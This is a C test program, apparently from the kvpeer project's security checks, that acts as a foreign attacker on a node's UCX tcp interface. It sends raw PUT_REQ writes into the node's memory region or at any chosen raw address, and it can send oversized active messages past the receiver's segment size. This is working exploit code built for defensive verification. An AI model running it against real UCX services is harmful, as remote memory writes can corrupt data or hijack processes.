/*
 * foreign_uct.c -- a UCT-level attacker on a kvpeer node's UCX tcp iface
 * (issue 27, residual check). Not UCP: it opens UCX's tcp component / md /
 * iface itself with PUT_ENABLE=y, connects to the node's tcp iface (device
 * address: ours on the same interface -- on loopback it is the boot id and
 * the netns, identical on one host; iface address: the listening port) and
 * sends the tcp transport's internal PUT_REQ (uct_ep_put_zcopy) into slot
 * SLOT of the node's region (base and block size from the node's real
 * address blob: the strongest attacker): one block of 0x5A, then a flush. A receiver that handles the
 * PUT_REQ memcpy()s the payload to ADDR and answers a PUT_ACK, which is what
 * completes the flush -- so "flush completed" means the write landed.
 * Usage: foreign_uct BLOB_HEX IP PORT [SLOT|@ADDR_HEX] [WAIT_MS] [DEV]
 * (@ADDR_HEX: 4 KiB at that raw address instead, e.g. outside the region;
 * amLEN: no put, one AM of LEN bytes, id 1, with our TX_SEG_SIZE raised to
 * fit: longer than the node's RX_SEG_SIZE, which libuct only asserts)
 * Output, one line each: "target <addr> <len>", "iface ok <dev> ..." |
 * "iface fail <why>", "connect ok|fail <status>", "put <status>", "flush
 * completed|timeout|error:<status>" (amLEN: "am <bytes or status>"), then
 * "done". Exits without tearing UCX down (_exit).
 */
#include "transport/ucx.h"

#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <uct/api/uct.h>

#include "unhex.h"

static uint64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000u + (uint64_t)ts.tv_nsec / 1000000u;
}

typedef struct {
    uct_completion_t c;
    int done;
    ucs_status_t st;
} comp_t;

static void comp_cb(uct_completion_t *c)
{
    comp_t *x = (comp_t *)c;
    x->done = 1;
    x->st = c->status;
}

typedef struct {
    const uint8_t *p;
    size_t n;
} pk_t;

static size_t pack(void *dest, void *arg)
{
    pk_t *k = arg;
    memcpy(dest, k->p, k->n);
    return k->n;
}

static uct_md_h md;
static uct_component_h tcp_comp;

static int open_md(void)
{
    uct_component_h *comps;
    unsigned n;
    if (uct_query_components(&comps, &n) != UCS_OK)
        return -1;
    for (unsigned i = 0; i < n; i++) {
        uct_component_attr_t a = {.field_mask = UCT_COMPONENT_ATTR_FIELD_NAME};
        if (uct_component_query(comps[i], &a) == UCS_OK && strcmp(a.name, "tcp") == 0)
            tcp_comp = comps[i];
    }
    if (!tcp_comp)
        return -1;
    uct_md_config_t *mc;
    if (uct_md_config_read(tcp_comp, NULL, NULL, &mc) != UCS_OK)
        return -1;
    ucs_status_t s = uct_md_open(tcp_comp, "tcp", mc, &md);
    uct_config_release(mc);
    return s == UCS_OK ? 0 : -1;
}


int main(int argc, char **argv)
{
    static uint8_t blob[KVP_UCX_BLOB_MAX];
    size_t blen = 0;
    kvp_ucx_blob_parts_t bp;
    struct in_addr ia;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 4 || unhex(argv[1], blob, sizeof(blob), &blen) != 0 ||
        kvp_ucx_blob_parse(blob, blen, &bp) != KVP_OK || inet_pton(AF_INET, argv[2], &ia) != 1 ||
        atoi(argv[3]) <= 0 || atoi(argv[3]) > 65535) {
        fprintf(stderr, "usage: %s BLOB_HEX IP PORT [SLOT|@ADDR_HEX] [WAIT_MS] [DEV]\n", argv[0]);
        return 2;
    }
    uint16_t port = (uint16_t)atoi(argv[3]);
    const char *tgt = argc > 4 ? argv[4] : "0";
    uint64_t slot = strtoull(tgt, NULL, 0);
    unsigned wait_ms = argc > 5 ? (unsigned)atoi(argv[5]) : 1500;
    const char *dev = argc > 6 ? argv[6] : "lo";
    size_t len = bp.layout.block_size;
    uint64_t addr = bp.region_base + slot * len;
    size_t am_len = strncmp(tgt, "am", 2) == 0 ? strtoull(tgt + 2, NULL, 0) : 0;
    if (am_len) {
        addr = 0;
        len = am_len;
    } else if (tgt[0] == '@') { /* raw address: no region check (the attacker's choice) */
        addr = strtoull(tgt + 1, NULL, 16);
        len = 4096;
    } else if (len == 0 || len > (1u << 20) || addr + len > bp.region_base + bp.region_len) {
        fprintf(stderr, "slot %llu outside the region\n", (unsigned long long)slot);
        return 2;
    }
    printf("target 0x%llx %zu\n", (unsigned long long)addr, len);
    /* the attacker's side offers native put (the victim's setting is irrelevant) */
    setenv("UCX_TCP_PUT_ENABLE", "y", 1);
    if (open_md() != 0) {
        printf("iface fail md\ndone\n");
        _exit(0);
    }
    ucs_async_context_t *async;
    uct_worker_h worker;
    if (ucs_async_context_create(UCS_ASYNC_MODE_THREAD_SPINLOCK, &async) != UCS_OK ||
        uct_worker_create(async, UCS_THREAD_MODE_SINGLE, &worker) != UCS_OK) {
        printf("iface fail worker\ndone\n");
        _exit(0);
    }
    uct_iface_config_t *ic;
    if (uct_md_iface_config_read(md, "tcp", NULL, NULL, &ic) != UCS_OK) {
        printf("iface fail config\ndone\n");
        _exit(0);
    }
    uct_config_modify(ic, "PUT_ENABLE", "y");
    if (am_len) {
        char seg[32];
        snprintf(seg, sizeof(seg), "%zu", am_len + 4096);
        uct_config_modify(ic, "TX_SEG_SIZE", seg);
        uct_config_modify(ic, "RX_SEG_SIZE", seg);
    }
    uct_iface_params_t ip_prm = {
        .field_mask = UCT_IFACE_PARAM_FIELD_OPEN_MODE | UCT_IFACE_PARAM_FIELD_DEVICE,
        .open_mode = UCT_IFACE_OPEN_MODE_DEVICE,
        .mode.device = {.tl_name = "tcp", .dev_name = dev},
    };
    uct_iface_h iface;
    ucs_status_t s = uct_iface_open(md, worker, &ip_prm, ic, &iface);
    uct_config_release(ic);
    if (s != UCS_OK) {
        printf("iface fail %s\ndone\n", ucs_status_string(s));
        _exit(0);
    }
    uct_iface_progress_enable(iface, UCT_PROGRESS_SEND | UCT_PROGRESS_RECV);
    uct_iface_attr_t attr;
    uct_iface_query(iface, &attr);
    printf("iface ok %s put_zcopy=%s dev_addr_len=%zu\n", dev,
           (attr.cap.flags & UCT_IFACE_FLAG_PUT_ZCOPY) ? "yes" : "no", attr.device_addr_len);

    /* The victim's device address: on loopback our own (flags LOOPBACK,
     * AF_INET, boot id + netns of this host); elsewhere flags 0, AF_INET, IP. */
    uint8_t daddr[256] = {0};
    if (attr.device_addr_len > sizeof(daddr) ||
        uct_iface_get_device_address(iface, (uct_device_addr_t *)daddr) != UCS_OK) {
        printf("connect fail devaddr\ndone\n");
        _exit(0);
    }
    if (!(daddr[0] & 1)) { /* UCT_TCP_DEVICE_ADDR_FLAG_LOOPBACK unset: IP follows */
        daddr[1] = AF_INET;
        memcpy(daddr + 2, &ia, sizeof(ia));
    }
    uint16_t iaddr = htons(port); /* uct_tcp_iface_addr_t */
    uct_ep_params_t ep_prm = {
        .field_mask = UCT_EP_PARAM_FIELD_IFACE | UCT_EP_PARAM_FIELD_DEV_ADDR |
                      UCT_EP_PARAM_FIELD_IFACE_ADDR,
        .iface = iface,
        .dev_addr = (uct_device_addr_t *)daddr,
        .iface_addr = (uct_iface_addr_t *)&iaddr,
    };
    uct_ep_h ep;
    s = uct_ep_create(&ep_prm, &ep);
    if (s != UCS_OK) {
        printf("connect fail %s\ndone\n", ucs_status_string(s));
        _exit(0);
    }
    printf("connect ok\n");

    uint8_t *buf = malloc(len);
    memset(buf, 0x5A, len);
    if (am_len) {
        pk_t pk = {buf, len};
        ssize_t n = UCS_ERR_NO_RESOURCE;
        uint64_t end = now_ms() + wait_ms;
        while (now_ms() < end && (n = uct_ep_am_bcopy(ep, 1, pack, &pk, 0)) == UCS_ERR_NO_RESOURCE)
            uct_worker_progress(worker);
        printf("am %zd\n", n);
        while (now_ms() < end) { /* let the frame leave */
            uct_worker_progress(worker);
            usleep(1000);
        }
        printf("done\n");
        _exit(0);
    }
    uct_iov_t iov = {.buffer = buf, .length = len, .memh = UCT_MEM_HANDLE_NULL, .count = 1};
    comp_t pc = {.c = {.func = comp_cb, .count = 1, .status = UCS_OK}};
    uint64_t end = now_ms() + wait_ms;
    do {
        s = uct_ep_put_zcopy(ep, &iov, 1, addr, 0, &pc.c);
        if (s != UCS_ERR_NO_RESOURCE)
            break;
        uct_worker_progress(worker);
    } while (now_ms() < end);
    printf("put %s\n", ucs_status_string(s));
    if (UCS_STATUS_IS_ERR(s)) {
        printf("done\n");
        _exit(0);
    }
    comp_t fc = {.c = {.func = comp_cb, .count = 1, .status = UCS_OK}};
    do {
        s = uct_ep_flush(ep, 0, &fc.c);
        if (s != UCS_ERR_NO_RESOURCE)
            break;
        uct_worker_progress(worker);
    } while (now_ms() < end);
    if (s == UCS_OK)
        fc.done = 1, fc.st = UCS_OK;
    else if (s != UCS_INPROGRESS) {
        printf("flush error:%s\ndone\n", ucs_status_string(s));
        _exit(0);
    }
    while (!fc.done && now_ms() < end) {
        uct_worker_progress(worker);
        usleep(100);
    }
    if (!fc.done)
        printf("flush timeout\n");
    else if (fc.st == UCS_OK)
        printf("flush completed\n");
    else
        printf("flush error:%s\n", ucs_status_string(fc.st));
    printf("done\n");
    _exit(0);
}
